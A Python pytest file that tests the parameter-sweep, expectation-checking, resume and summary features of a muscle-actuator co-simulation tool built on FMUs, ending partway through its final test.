"""Sweep files, expectations, the results log with resume, and `tapmuscle sweep` run in this process."""

import csv
import json
import re
import math
import os
import tomllib

import numpy as np
import pytest

from tapmuscle.cosim import SCENARIO_FILES, ScenarioError, co_simulate, load_scenario, parse_scenario
from tapmuscle.cosim.distributed_sweep import FmuFiles, make_task, run_serial
from tapmuscle.cosim.expect import check_expectations, parse_expectations, scenario_metrics
from tapmuscle.cosim.master import InstancePool
from tapmuscle.cosim.sweep import load_sweep, parse_sweep
from tapmuscle.cosim.sweep_run import ResultsLog, result_columns, run_sweep, summary_markdown
from tapmuscle.cli.main import main
from tapmuscle.provenance import software_text

SHORT = {"duration_s": 12.0, "evaluation_samples": [20, 120], "controller": {"method": "ampc_servo"}}

SMALL_SWEEP = """
name = "small"
[base]
duration_s = 12.0
evaluation_samples = [20, 120]
[grid]
"controller.method" = ["mpc_servo", "ampc_servo"]
seed = [0, 1]
"""


def _write(tmp_path, text, name="sweep.toml"):
    path = tmp_path / name
    path.write_text(text)
    return path


def _rows(out):
    with open(out / "results.csv", newline="") as fh:
        return list(csv.DictReader(fh))


def _same_results(a, b):
    """Same runs, same status and metrics (wall time aside), bit for bit."""
    key = lambda rows: {r["run_id"]: r for r in rows}  # noqa: E731
    a, b = key(a), key(b)
    assert a.keys() == b.keys()
    for rid in a:
        for col in ("status", "mae_mm", "rms_error_mm", "max_abs_error_mm", "u_min_v", "u_max_v", "error"):
            assert a[rid][col] == b[rid][col], (rid, col)


# ------------------------------------------------------------------------------------- sweep files
def test_grid_and_monte_carlo_expand_deterministically(tmp_path):
    path = _write(tmp_path, """
base = { duration_s = 12.0, evaluation_samples = [20, 120] }
[grid]
"controller.method" = ["mpc_ucp", "ampc_servo"]
"controller.parameters.servo.R" = [10.0, 20.0]
[monte_carlo]
n = 5
sample_seed = 7
"load.initial_n" = { uniform = [30.0, 90.0] }
seed = { integers = [0, 3] }
"reference.frequency_hz" = { choice = [0.1, 0.2] }
""")
    sweep = load_sweep(path)
    assert len(sweep.runs) == 2 * 2 * 5
    assert sweep.fields == ("controller.method", "controller.parameters.servo.R", "load.initial_n", "seed",
                            "reference.frequency_hz")
    again = load_sweep(path)
    assert [r.run_id for r in sweep.runs] == [r.run_id for r in again.runs]
    assert len({r.run_id for r in sweep.runs}) == 20
    loads = [r.scenario.load.initial for r in sweep.runs]
    assert all(30.0 <= v < 90.0 for v in loads) and len(set(loads)) == 5  # the same 5 samples per grid point
    assert loads[:5] == loads[5:10] == loads[15:20]
    assert {r.scenario.seed for r in sweep.runs} <= {0, 1, 2, 3}
    assert {r.scenario.reference.frequency_hz for r in sweep.runs} <= {0.1, 0.2}
    first = sweep.runs[0]
    assert first.scenario.method == "mpc_ucp" and first.scenario.controller.parameters == {"servo.R": 10.0}
    assert dict(first.params)["load.initial_n"] == first.scenario.load.initial
    # another sampler seed, other samples
    other = parse_sweep({**tomllib.loads(path.read_text()),
                         "monte_carlo": {"n": 5, "sample_seed": 8, "load.initial_n": {"uniform": [30.0, 90.0]}}},
                        source="x")
    assert [r.scenario.load.initial for r in other.runs[:5]] != loads[:5]


def test_base_glob_crosses_each_file_with_the_grid(tmp_path):
    sweep = load_sweep(SCENARIO_FILES / "sweeps" / "paper_grid.toml")
    assert len(sweep.runs) == 12 * 3
    names = {r.base for r in sweep.runs}
    assert len(names) == 12 and "ampc_servo_44N_0.2Hz" in names
    run = next(r for r in sweep.runs if r.base == "ampc_servo_44N_0.2Hz" and r.scenario.seed == 2)
    assert run.scenario.controller.parameters["P0.a1"] == 1000 and run.scenario.reference.frequency_hz == 0.2
    base = load_scenario(SCENARIO_FILES / "paper" / "ampc_servo_44N_0.2Hz.toml")
    assert run.scenario.expect.bounds == base.expect.bounds and base.expect.bounds  # the base file's [expect]
    mc = load_sweep(SCENARIO_FILES / "sweeps" / "robustness_mc.toml")
    assert len(mc.runs) == 200
    assert {r.scenario.method for r in mc.runs} == {"mpc_ucp", "mpc_servo", "ampc_ucp", "ampc_servo"}
    assert all(30.0 <= r.scenario.load.initial <= 90.0 and 0.2 <= r.scenario.supply.initial <= 0.3
               for r in mc.runs)


@pytest.mark.parametrize("path", sorted((SCENARIO_FILES / "sweeps").glob("*.toml")), ids=lambda p: p.name)
def test_every_shipped_sweep_loads(path):
    sweep = load_sweep(path)
    assert sweep.runs and sweep.name == path.stem
    assert all(r.scenario.duration_s > 0 for r in sweep.runs)


def test_the_box_sweep_keeps_the_papers_corner_among_its_rows():
    sweep = load_sweep(SCENARIO_FILES / "sweeps" / "ucp_box.toml")
    assert len(sweep.runs) == 48
    corners = {(r.scenario.controller.parameters["box_lower.a1"], r.scenario.controller.parameters["box_lower.a2"])
               for r in sweep.runs}
    assert corners == {(1.208, -0.334), (1.208, -10.0), (-10.0, -0.334), (-10.0, -10.0)}


def test_run_ids_change_with_the_scenario_not_with_expectations(tmp_path):
    a = parse_sweep({"base": dict(SHORT), "grid": {"seed": [0, 1]}}, source="a")
    b = parse_sweep({"base": dict(SHORT), "grid": {"seed": [0, 1]}, "expect": {"mae_mm_max": 1.0}}, source="b")
    c = parse_sweep({"base": {**SHORT, "duration_s": 13.0}, "grid": {"seed": [0, 1]}}, source="c")
    assert [r.run_id for r in a.runs] == [r.run_id for r in b.runs]
    assert not {r.run_id for r in a.runs} & {r.run_id for r in c.runs}
    assert b.runs[0].scenario.expect.bounds[0].hi == 1.0 and a.runs[0].scenario.expect is None


@pytest.mark.parametrize("text, key, message", [
    ("base = 'nowhere.toml'\n", "base", "does not exist"),
    ("base = 'nothing*.toml'\n", "base", "matches no file"),
    ('base = "C:\\runs\\base.toml"\n', "base", "'C:\\runs\\x08ase.toml' holds the control character '\\r': a Windows "
     "path in a double-quoted TOML string reads its backslashes as escapes"),
    ("base = { duration_s = 10.0 }\nsteps = 3\n", "steps", "unknown key"),
    ("base = { duration_s = 10.0 }\n[grid]\nseed = 3\n", "grid.seed", "non-empty array"),
    ("base = { duration_s = 10.0 }\n[monte_carlo]\nn = 3\nseed = 4\n", "monte_carlo.seed", "sample_seed"),
    ("base = { duration_s = 10.0 }\n[monte_carlo]\nn = 3\n'load.initial_n' = { normal = [1, 2] }\n",
     "monte_carlo.load.initial_n", "uniform"),
    ("base = { duration_s = 10.0 }\n[monte_carlo]\nn = 3\n'load.initial_n' = { uniform = [9, 2] }\n",
     "monte_carlo.load.initial_n.uniform", "lo < hi"),
    ("base = { duration_s = 10.0 }\n[monte_carlo]\nn = 0\n'seed' = { integers = [0, 2] }\n", "monte_carlo.n", "within 1..100000"),
    ("base = { duration_s = 10.0 }\n[grid]\n'load.initial_n' = [44, 600]\n", "load.initial_n", "is outside"),
    ("base = { duration_s = 10.0 }\n[grid]\n'load.initial' = [44]\n", "load.initial", "unknown key"),
    ("base = { duration_s = 10.0 }\n[grid]\nseed = [1, 1]\n", "", "the same scenario as run 0"),
    ("base = { duration_s = 10.0 }\n[expect]\nmae_max = 1\n", "expect.mae_max", "unknown expectation"),
])
def test_bad_sweep_files_name_file_and_key(tmp_path, text, key, message):
    path = _write(tmp_path, text)
    with pytest.raises(ScenarioError) as err:
        load_sweep(path)
    assert str(path) in str(err.value) and message in str(err.value)
    assert f"key '{key}'" in str(err.value) if key else True
    if key == "load.initial_n":
        assert "load.initial_n=600" in str(err.value)  # the run's values


def test_a_sweep_of_too_many_runs_is_refused_before_any_is_made(tmp_path):
    """Runs counted from the grid's and the sample's sizes first: a grid of 10^6 points would otherwise spend minutes
    making its scenarios without a word before the sweep started."""
    grid = (f"seed = {list(range(1000))}\n'load.initial_n' = {[44.0 + i / 10 for i in range(1000)]}\n")
    with pytest.raises(ScenarioError, match=r"key 'grid': makes 1,000,000 runs \(1 base x 1000 seed x 1000 "
                                             r"load.initial_n\), more than a sweep's 100,000: split it"):
        load_sweep(_write(tmp_path, "base = { duration_s = 10.0 }\n[grid]\n" + grid))
    with pytest.raises(ScenarioError, match=r"makes 120,000 runs \(1 base x 2 seed x 60000 samples\)"):
        load_sweep(_write(tmp_path, "base = { duration_s = 10.0 }\n[grid]\nseed = [1, 2]\n[monte_carlo]\nn = 60000\n"
                                    "'load.initial_n' = { uniform = [40, 70] }\n"))


# ------------------------------------------------------------------------------------- expectations
def test_expectations_are_checked_against_the_metrics(tmp_path):
    exp = parse_expectations({"mae_mm_max": 0.35, "u_within": [0, 10], "real_time_factor_min": 50}, source="f")
    ok = {"mae_mm": 0.30, "u_min_v": 0.0, "u_max_v": 10.0, "real_time_factor": 300.0}
    assert check_expectations(exp, ok).passed
    bad = check_expectations(exp, {**ok, "mae_mm": 0.41, "u_min_v": -0.5, "real_time_factor": 20.0})
    assert bad.violations == ("mae_mm = 0.41 > 0.35 (mae_mm_max)", "u_min_v = -0.5 < 0 (u_within)",
                              "real_time_factor = 20 < 50 (real_time_factor_min)")
    assert not check_expectations(exp, {**ok, "mae_mm": math.nan}).passed
    path = _write(tmp_path, 'duration_s = 10.0\n[expect]\nmae_mm_max = 0.5\nu_within = [0, 10]\n', "s.toml")
    assert [b.describe() for b in load_scenario(path).expect.bounds] == ["mae_mm <= 0.5", "u_min_v >= 0",
                                                                         "u_max_v <= 10"]


@pytest.mark.parametrize("table, named, message", [
    ({"mae_max": 1}, "key 'expect.mae_max'", "unknown expectation"),
    ({"mae_mm_below": 1}, "key 'expect.mae_mm_below'", "unknown expectation"),
    ({"mae_mm_max": "low"}, "key 'expect.mae_mm_max'", "finite number"),
    ({"u_within": [10, 0]}, "key 'expect.u_within'", "lo 10 > hi 0"),
    ({"u_within": 5}, "key 'expect.u_within'", "[lo, hi]"),
    ({"mae_mm_max": 1, "mae_mm_min": 2}, "keys 'expect.mae_mm_min' = 2 and 'expect.mae_mm_max' = 1",
     "no mae_mm can meet both"),
    ({"u_within": [0, 10], "u_max_v_min": 11}, "keys 'expect.u_max_v_min' = 11 and 'expect.u_within' = 10",
     "no u_max_v can meet both"),
    # an upper bound below 0 on a metric that is never negative always fails
    ({"mae_mm_max": -1}, "key 'expect.mae_mm_max'", "-1: no run can meet it (mae_mm is never negative)"),
    ({"real_time_factor_max": -0.5}, "key 'expect.real_time_factor_max'", "(real_time_factor is never negative)"),
])
def test_bad_expectations_name_file_and_key(table, named, message):
    with pytest.raises(ScenarioError) as err:
        parse_expectations(table, source="some.toml")
    assert str(err.value).startswith(f"some.toml: {named}") and message in str(err.value)


def test_metrics_of_a_run():
    s = parse_scenario({"duration_s": 1.0, "evaluation_samples": [1, 3]}, source="m")
    cols = {"r_mm": np.array([0.0, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0, 10.0]),
            "l_mm": np.array([9.0, 1.5, 1.0, 3.0, 0.0, 5.0, 6.0, 7.0, 8.0, 9.0, 10.0]),
            "u_v": np.linspace(-1.0, 11.0, 11), "wall_time_s": np.asarray(0.5)}
    m = scenario_metrics(s, cols)
    assert m["mae_mm"] == pytest.approx(0.5) and m["max_abs_error_mm"] == 1.0
    assert m["rms_error_mm"] == pytest.approx(math.sqrt((0.25 + 1.0) / 3))
    assert (m["u_min_v"], m["u_max_v"], m["real_time_factor"]) == (-1.0, 11.0, 2.0)


# ------------------------------------------------------------------------------------- instance reuse
def test_reused_instances_give_the_same_runs_bit_for_bit(built_fmus):
    cases = [parse_scenario({**SHORT, "seed": 2, "controller": {"method": "ampc_servo",
                                                                "parameters": {"servo.R": 3.0}}}, source="a"),
             parse_scenario({**SHORT, "seed": 2}, source="b"),  # servo.R back at its default
             parse_scenario({**SHORT, "controller": {"method": "mpc_ucp"}, "load": {"initial_n": 68.0},
                             "plant": {"parameters": {"friction.rate_gain": 0.5}}}, source="c"),
             parse_scenario({**SHORT, "seed": 2}, source="d")]
    fresh = [co_simulate(s, built_fmus, record="minimal") for s in cases]
    pool = InstancePool()
    try:
        pooled = [co_simulate(s, built_fmus, record="minimal", pool=pool) for s in cases]
        assert sum(len(v) for v in pool._idle.values()) == 2  # one plant and one controller, reused
    finally:
        pool.close()
    for f, p in zip(fresh, pooled):
        assert np.array_equal(f["l_mm"], p["l_mm"]) and np.array_equal(f["u_v"], p["u_v"])
    assert not np.array_equal(fresh[0]["u_v"], fresh[1]["u_v"])  # servo.R mattered, and was reset


def test_an_fmu_whose_reset_fails_gets_a_new_instance_every_run(built_fmus, monkeypatch):
    """fmi2Reset is not implemented by every export: where it fails, the run takes a new instance (the
    user never asked for a reset), the same run as a fresh one, and that FMU's instances are freed,
    not kept; the other FMU's are still reused."""
    from tapmuscle.cosim.master import FmuInstance

    cases = [parse_scenario({**SHORT, "seed": seed}, source=str(seed)) for seed in (1, 2, 3)]
    fresh = [co_simulate(s, built_fmus, record="minimal") for s in cases]
    reset, resets = FmuInstance.reset, []

    def failing_reset(self):
        resets.append(self.role)
        if self.role == "controller":
            raise ScenarioError(f"controller FMU ({self.unpacked.path.name}) fmi2Reset failed: not supported")
        reset(self)

    monkeypatch.setattr(FmuInstance, "reset", failing_reset)
    pool = InstancePool()
    try:
        pooled = [co_simulate(s, built_fmus, record="minimal", pool=pool) for s in cases]
        assert [inst.role for v in pool._idle.values() for inst in v] == ["plant"]
    finally:
        pool.close()
    assert resets == ["plant", "controller", "plant"]  # the controller's tried once, then never kept
    for f, p in zip(fresh, pooled):
        assert np.array_equal(f["l_mm"], p["l_mm"]) and np.array_equal(f["u_v"], p["u_v"])


# ------------------------------------------------------------------------------------- run_sweep
def test_sweep_records_failures_resumes_and_summarises(built_fmus, tmp_path):
    text = SMALL_SWEEP + '"controller.parameters.servo.Hu" = [5, 9]\n'  # Hu = 9 > Hp = 5: the FMU refuses
    sweep = parse_sweep(tomllib.loads(text), source="small.toml")
    out = tmp_path / "out"
    report = run_sweep(sweep, out, built_fmus, run_serial)
    assert (report.total, report.skipped, report.ran, report.failed) == (8, 0, 8, 4)
    rows = _rows(out)
    assert len(rows) == 8 and [r["run_id"] for r in rows] == [r.run_id for r in sweep.runs]
    failed = [r for r in rows if r["status"] == "failed"]
    assert {r["controller.parameters.servo.Hu"] for r in failed} == {"9"}
    assert all("servo.Hu must be <= servo.Hp" in r["error"] and r["mae_mm"] == "" for r in failed)
    ok = [r for r in rows if r["status"] == "ok"]
    assert all(0.0 < float(r["mae_mm"]) < 5.0 and 5.0 < float(r["u_max_v"]) <= 10.0 for r in ok)
    summary = (out / "summary.md").read_text()
    mae = sorted(float(r["mae_mm"]) for r in ok if r["method"] == "mpc_servo")
    assert f"| mpc_servo | 4 | 2 | 0 | {np.mean(mae):.3f} | {np.median(mae):.3f} | {max(mae):.3f} |" in summary
    assert "## Failed runs" in summary and (out / "mae_by_method.png").stat().st_size > 10_000

    calls = []

    def counting(tasks, files):
        calls.append([t.run_id for t in tasks])
        return run_serial(tasks, files)

    again = run_sweep(sweep, out, built_fmus, counting)
    assert sorted(calls[0]) == sorted(r["run_id"] for r in failed)  # only the failed runs again
    assert (again.skipped, again.ran, again.failed) == (4, 4, 4)
    assert len(_rows(out)) == 8  # one row per run, the last attempt
    _same_results(rows, _rows(out))


def test_a_narrowed_sweep_keeps_the_other_rows_says_so_and_leaves_no_stale_figure(built_fmus, tmp_path):
    """The sweep file edited to one load and rerun into its folder: ``results.csv`` keeps the dropped
    runs' rows after its own (finished work is not thrown away), the summary and the report say how many,
    and the load map, which one load no longer draws, is gone rather than showing the earlier runs."""
    out = tmp_path / "out"
    text = SMALL_SWEEP.replace('["mpc_servo", "ampc_servo"]', '["ampc_servo"]') + '"load.initial_n" = [44, 68]\n'
    run_sweep(parse_sweep(tomllib.loads(text), source="small.toml"), out, built_fmus, run_serial)
    assert {p.name for p in out.iterdir()} == {"results.csv", "summary.md", "mae_by_method.png", "mae_map.png"}
    narrowed = parse_sweep(tomllib.loads(text.replace("[44, 68]", "[44]")), source="small.toml")
    report = run_sweep(narrowed, out, built_fmus, run_serial)
    assert (report.total, report.skipped, report.other_rows) == (2, 2, 2)
    assert [r["run_id"] for r in _rows(out)][:2] == [r.run_id for r in narrowed.runs] and len(_rows(out)) == 4
    assert ("also keeps, after this sweep's rows, 2 rows whose run ids the sweep does not have (an earlier version "
            "of its file") in (out / "summary.md").read_text()
    assert {p.name for p in out.iterdir()} == {"results.csv", "summary.md", "mae_by_method.png"}
    # in another format: the PNGs go (no resumed run is run again)
    run_sweep(narrowed, out, built_fmus, run_serial, figure_format="svg")
    assert {p.name for p in out.iterdir()} == {"results.csv", "summary.md", "mae_by_method.svg"}
    run_sweep(narrowed, out, built_fmus, run_serial, plots=False)
    assert {p.name for p in out.iterdir()} == {"results.csv", "summary.md"}
    with pytest.raises(ValueError, match="figure_format must be one of png, pdf, svg, got 'jpg'"):
        run_sweep(narrowed, out, built_fmus, run_serial, figure_format="jpg")


def test_interrupted_sweep_resumes_without_recomputing(built_fmus, tmp_path):
    sweep = parse_sweep(tomllib.loads(SMALL_SWEEP), source="small.toml")
    full = tmp_path / "full"
    run_sweep(sweep, full, built_fmus, run_serial, plots=False)

    def interrupted(tasks, files):
        for i, result in enumerate(run_serial(tasks, files)):
            if i == 2:
                raise KeyboardInterrupt
            yield result

    out = tmp_path / "out"
    with pytest.raises(KeyboardInterrupt):
        run_sweep(sweep, out, built_fmus, interrupted, plots=False)
    logged = _rows(out)
    assert len(logged) == 2 and not (out / "summary.md").exists()
    with open(out / "results.csv", "a") as fh:  # a row cut short by a crash
        fh.write(f"{sweep.runs[3].run_id},ok,small,ampc")
    calls = []

    def counting(tasks, files):
        calls.append({t.run_id for t in tasks})
        return run_serial(tasks, files)

    report = run_sweep(sweep, out, built_fmus, counting, plots=False)
    assert calls == [{r.run_id for r in sweep.runs} - {r["run_id"] for r in logged}]
    assert (report.skipped, report.ran, report.failed) == (2, 2, 0)
    final = _rows(out)
    assert len(final) == 4 and [r["wall_time_s"] for r in final[:2]] == [r["wall_time_s"] for r in logged]
    _same_results(final, _rows(full))


def test_an_output_folder_removed_mid_sweep_is_written_again_whole(built_fmus, tmp_path):
    """The folder removed while the runs went on (an over-eager clean-up): the sweep must not end in a KeyError
    traceback, status 1, no summary, the results of the runs before the removal lost. It writes the
    whole results.csv again from the rows it read and wrote, and the summary, as an undisturbed sweep."""
    import shutil

    sweep = parse_sweep(tomllib.loads(SMALL_SWEEP), source="small.toml")
    full = tmp_path / "full"
    run_sweep(sweep, full, built_fmus, run_serial, plots=False)
    out = tmp_path / "out"
    run_sweep(parse_sweep(tomllib.loads(SMALL_SWEEP.replace("seed = [0, 1]", "seed = [0]")), source="s.toml"),
              out, built_fmus, run_serial, plots=False)  # two runs done before

    def removing(tasks, files):
        for i, result in enumerate(run_serial(tasks, files)):
            if i == 1:
                shutil.rmtree(out)
            yield result

    report = run_sweep(sweep, out, built_fmus, removing, plots=False)
    assert (report.skipped, report.ran, report.failed) == (2, 2, 0)
    assert (out / "summary.md").is_file()
    _same_results(_rows(out), _rows(full))


def test_results_of_another_sweep_are_refused(built_fmus, tmp_path):
    out = tmp_path / "out"
    other = parse_sweep({"base": dict(SHORT), "grid": {"load.initial_n": [44.0]}}, source="other.toml")
    ResultsLog(out / "results.csv", result_columns(other)).append({"run_id": "x", "status": "ok"})
    sweep = parse_sweep(tomllib.loads(SMALL_SWEEP), source="small.toml")
    with pytest.raises(ScenarioError, match="results of another sweep .*load.initial_n"):
        run_sweep(sweep, out, built_fmus, run_serial)


def test_a_sweep_over_plant_files_reruns_a_run_whose_file_changed(built_fmus, tmp_path):
    """Rigs as plant parameter files (``plant.parameters_file``, relative to the sweep file): a rerun
    into the same folder skips the runs whose file is unchanged and runs the one whose file changed
    (a run id follows the file's values, not its name)."""
    from fmu_plant import PlantParams

    def rig(name, **values):
        (tmp_path / name).write_text(json.dumps({"plant": PlantParams().with_values(**values).to_dict()}))

    rig("rigA.json", **{"muscle.radius_mm": 11.0})
    rig("rigB.json", **{"muscle.radius_mm": 9.0})
    path = _write(tmp_path, SMALL_SWEEP.replace('"controller.method" = ["mpc_servo", "ampc_servo"]\nseed = [0, 1]',
                                                '"plant.parameters_file" = ["rigA.json", "rigB.json"]'))
    sweep = load_sweep(path)
    assert [r.scenario.plant.parameters["muscle.radius_mm"] for r in sweep.runs] == [11.0, 9.0]
    out = tmp_path / "out"
    first = run_sweep(sweep, out, built_fmus, run_serial, plots=False)
    assert (first.ran, first.failed) == (2, 0)
    maes = {r["plant.parameters_file"]: r["mae_mm"] for r in _rows(out)}
    assert maes["rigA.json"] != maes["rigB.json"]
    rig("rigB.json", **{"muscle.radius_mm": 9.5})  # rig B re-calibrated
    again = run_sweep(load_sweep(path), out, built_fmus, run_serial, plots=False)
    assert (again.skipped, again.ran) == (1, 1)
    rows = _rows(out)  # the sweep's runs in its order, then the replaced run of the old rig B
    assert [r["plant.parameters_file"] for r in rows] == ["rigA.json", "rigB.json", "rigB.json"]
    assert rows[0]["mae_mm"] == maes["rigA.json"] and rows[1]["mae_mm"] != maes["rigB.json"]
    assert rows[2]["mae_mm"] == maes["rigB.json"]


def test_a_sweep_over_identification_files_reruns_a_run_whose_file_changed(built_fmus, tmp_path):
    """Controller models as identification files (``controller.identification``): as for plant files,
    a run's id follows the file's values, so a rerun runs only the run whose model changed."""
    import numpy as np

    from fmu_controller.preliminary_model import THETA0_44N
    from fmu_controller.rls import TABLE2_LOWER, TABLE2_UPPER
    from tapmuscle.io.identification_file import write_identification

    def model(name, b1):
        theta = np.array(THETA0_44N)
        theta[2] = b1
        write_identification(tmp_path / name, theta, ts_s=0.1, box_lower=TABLE2_LOWER, box_upper=TABLE2_UPPER)

    model("idA.json", 0.80)
    model("idB.json", 0.90)
    path = _write(tmp_path, SMALL_SWEEP.replace('"controller.method" = ["mpc_servo", "ampc_servo"]\nseed = [0, 1]',
                                                '"controller.identification" = ["idA.json", "idB.json"]'))
    sweep = load_sweep(path)
    assert [r.scenario.controller.parameters["theta0.b1"] for r in sweep.runs] == [0.80, 0.90]
    out = tmp_path / "out"
    assert run_sweep(sweep, out, built_fmus, run_serial, plots=False).ran == 2
    model("idB.json", 0.95)  # re-identified
    again = run_sweep(load_sweep(path), out, built_fmus, run_serial, plots=False)
    assert (again.skipped, again.ran) == (1, 1)


def test_summary_groups_grid_cells():
    sweep = parse_sweep({"base": dict(SHORT), "grid": {"load.initial_n": [44.0, 68.0], "seed": [0, 1]}}, source="s")
    rows = [{"run_id": str(i), "status": "ok", "scenario": "s", "method": "ampc_servo", "load_n": load,
             "supply_mpa": "0.25", "frequency_hz": "0.1", "seed": str(seed), "mae_mm": mae, "expect": "",
             "error": ""} for i, (load, seed, mae) in enumerate([("44.0", 0, "0.1"), ("44.0", 1, "0.3"),
                                                                 ("68.0", 0, "0.5"), ("68.0", 1, "0.9")])]
    text = summary_markdown(sweep, rows)
    assert "| ampc_servo | 4 | 0 | 0 | 0.450 | 0.400 | 0.900 |" in text
    # what mae_mm averages, and which controller settings a scenario leaves to the FMU
    k0, k1 = sweep.runs[0].scenario.evaluation_samples
    assert f"the mean |r - l| over samples {k0}..{k1} ({k0 * 0.1:g}-{k1 * 0.1:g} s) of each run" in text
    assert "the start-up mode, the hysteresis notch and the stored `theta0`" in text
    other = parse_sweep({"base": dict(SHORT), "grid": {"evaluation_samples": [[10, 50], [20, 60]]}}, source="s")
    assert "each scenario's evaluation window (2 different" in summary_markdown(other, rows)
    # the FMUs run the host's numerics, which a resumed run's FMU hash does not cover
    assert f"Summarised with {software_text()}; a run kept from an earlier `results.csv`" in text
    assert "| ampc_servo | 44.0 | 2 | 0 | 0.200 | 0.200 | 0.300 |" in text
    assert "| ampc_servo | 68.0 | 2 | 0 | 0.700 | 0.700 | 0.900 |" in text


def test_a_swept_field_that_mirrors_a_derived_column_is_not_a_second_axis():
    grid = {"load.initial_n": [44.0, 68.0], "controller.parameters.forgetting": [1.0, 0.98]}
    sweep = parse_sweep({"base": dict(SHORT), "grid": grid}, source="s")
    rows = [{"run_id": f"{load}-{lam}", "status": "ok", "scenario": "s", "method": "ampc_ucp", "load_n": load,
             "load.initial_n": load, "controller.parameters.forgetting": lam, "supply_mpa": "0.25",
             "frequency_hz": "0.1", "seed": "0", "mae_mm": mae, "expect": "", "error": ""}
            for load, lam, mae in [("44.0", "1.0", "0.9"), ("44.0", "0.98", "0.4"), ("68.0", "1.0", "0.6"),
                                   ("68.0", "0.98", "0.5")]]
    text = summary_markdown(sweep, rows)
    # load.initial_n repeats load_n row for row: one load column, the forgetting factor as the other
    assert "## Per method and load_n, controller.parameters.forgetting\n" in text
    assert "| ampc_ucp | 44.0 | 0.98 | 1 | 0 | 0.400 | 0.400 | 0.400 |" in text
    rows[0]["load.initial_n"] = "45.0"  # no longer a mirror: kept
    assert "load_n, load.initial_n, controller.parameters.forgetting" in summary_markdown(sweep, rows)


def test_sweep_cli_in_process_and_its_errors(built_fmus, tmp_path, capsys):
    fmu_dir = str(built_fmus["MusclePlant"].parent)
    path = _write(tmp_path, SMALL_SWEEP.replace("seed = [0, 1]", "seed = [0]")
                  + "[expect]\nmae_mm_max = 0.01\n")
    out = tmp_path / "out"
    assert main(["sweep", str(path), "--out", str(out), "--workers", "0", "--fmu-dir", fmu_dir, "--quiet"]) == 1
    text = capsys.readouterr().out
    assert "2 runs: 0 already done, 2 run now; 0 failed, 2 missed their expectations" in text
    assert all(r["expect"].startswith("fail: mae_mm = ") for r in _rows(out))
    assert (out / "mae_by_method.png").is_file() and not (out / "mae_map.png").exists()  # nothing numeric varies
    bad = _write(tmp_path, "base = { duration_s = 10.0 }\n[grid]\n'controller.parameters.servo.Rr' = [1.0]\n")
    assert main(["sweep", str(bad), "--out", str(tmp_path / "o2"), "--workers", "0", "--fmu-dir", fmu_dir]) == 2
    err = capsys.readouterr().err
    assert str(bad) in err and "controller.parameters.servo.Rr" in err and "not a parameter" in err
    assert "did you mean 'servo.R'" in err
    assert not (tmp_path / "o2" / "results.csv").exists()
    # a value outside the FMU's declared range stops the sweep before any run too (rather than run, and
    # record that run as failed)
    bad = _write(tmp_path, "base = { duration_s = 10.0 }\n[grid]\n'controller.parameters.servo.R' = [10.0, -15.0]\n")
    assert main(["sweep", str(bad), "--out", str(tmp_path / "o3"), "--workers", "0", "--fmu-dir", fmu_dir]) == 2
    err = capsys.readouterr().err
    assert str(bad) in err and "controller.parameters.servo.R=-15.0" in err
    assert "key 'controller.parameters.servo.R': -15.0 is outside its declared range 0.0..1000000.0" in err
    assert not (tmp_path / "o3").exists()


def test_tasks_carry_fmu_digests_and_run_anywhere(built_fmus, tmp_path, monkeypatch):
    """A worker without the client's files writes the shipped bytes into its cache, once."""
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    import tempfile
    monkeypatch.setattr(tempfile, "tempdir", None)
    files = FmuFiles.read(built_fmus.values())
    task = make_task("t", parse_scenario(SHORT, source="s"), built_fmus, files)
    remote = files.without_local()
    digest = dict(task.fmus)["MusclePlant"]
    path = remote.path(digest)
    assert path.parent.name == digest and str(path).startswith(str(tmp_path))
    assert path.read_bytes() == built_fmus["MusclePlant"].read_bytes()
    assert files.path(digest) == built_fmus["MusclePlant"].resolve()  # in the client: its own file
    local = next(run_serial([task], files))
    assert local.status == "ok" and local.metrics["mae_mm"] > 0


def test_a_monte_carlo_size_beyond_the_limit_is_refused_at_once(tmp_path):
    """n = 1e8 must not draw for 45 s and then report duplicate values in the grid."""
    from tapmuscle.cosim.sweep import load_sweep

    path = _write(tmp_path, "base = { duration_s = 10.0 }\n[monte_carlo]\nn = 100000000\n"
                            "seed = { integers = [0, 999] }\n")
    with pytest.raises(ScenarioError, match=r"monte_carlo\.n.*must be within 1\.\.100000, got 100000000"):
        load_sweep(path)


@pytest.mark.parametrize("content", [b"\xff\xfe\x00garbage", b"run_id,\"status\n\"x\x00", b"a,b,c\n1,2,3\n"])
def test_a_corrupt_results_file_is_named(tmp_path, content):
    from tapmuscle.cosim.sweep_run import ResultsLog

    path = tmp_path / "results.csv"
    path.write_bytes(content)
    with pytest.raises(ScenarioError, match=f"{path}"):
        ResultsLog(path, ("run_id", "status")).rows()


def test_a_whole_number_is_the_same_run_however_it_is_written():
    """``68`` and ``68.0`` are one load: the same run id (a resume after editing one into the other
    recomputes nothing), and both in one grid are the duplicate the sweep refuses."""
    ints = parse_sweep({"base": dict(SHORT), "grid": {"load.initial_n": [44, 68]}}, source="a")
    floats = parse_sweep({"base": dict(SHORT), "grid": {"load.initial_n": [44.0, 68.0]}}, source="b")
    assert [r.run_id for r in ints.runs] == [r.run_id for r in floats.runs]
    with pytest.raises(ScenarioError, match=r"the same scenario as run 0"):
        parse_sweep({"base": dict(SHORT), "grid": {"load.initial_n": [68, 68.0]}}, source="c")


def test_seeds_are_sampled_over_the_whole_unsigned_64_bit_range():
    """Seeds are unsigned 64-bit: ``integers = [0, 2**64 - 1]`` must not give numpy's bare 'high is out of
    bounds for int64'; a range beyond 64 bits is named with its key."""
    mc = {"n": 20, "sample_seed": 1, "seed": {"integers": [0, 2**64 - 1]}}
    sweep = parse_sweep({"base": dict(SHORT), "monte_carlo": mc}, source="big")
    seeds = [r.scenario.seed for r in sweep.runs]
    assert all(0 <= s < 2**64 for s in seeds) and max(seeds) >= 2**63  # the upper half is reached (20 draws)
    with pytest.raises(ScenarioError, match=r"big: key 'monte_carlo.seed.integers': .* is beyond 64-bit integers"):
        parse_sweep({"base": dict(SHORT), "monte_carlo": {**mc, "seed": {"integers": [-1, 2**64 - 1]}}}, source="big")


def test_a_local_cluster_gets_no_more_workers_than_runs(capsys):
    """``--workers 1000`` for two runs must not start a thousand processes (minutes of start-up, leaked
    semaphores): the local cluster gets one worker per run at most, and more than the CPUs is said."""
    import argparse
    import os

    from tapmuscle.cli.sweep import _local_workers

    args = argparse.Namespace(scheduler=None, workers=1000)
    _local_workers(args, 2)
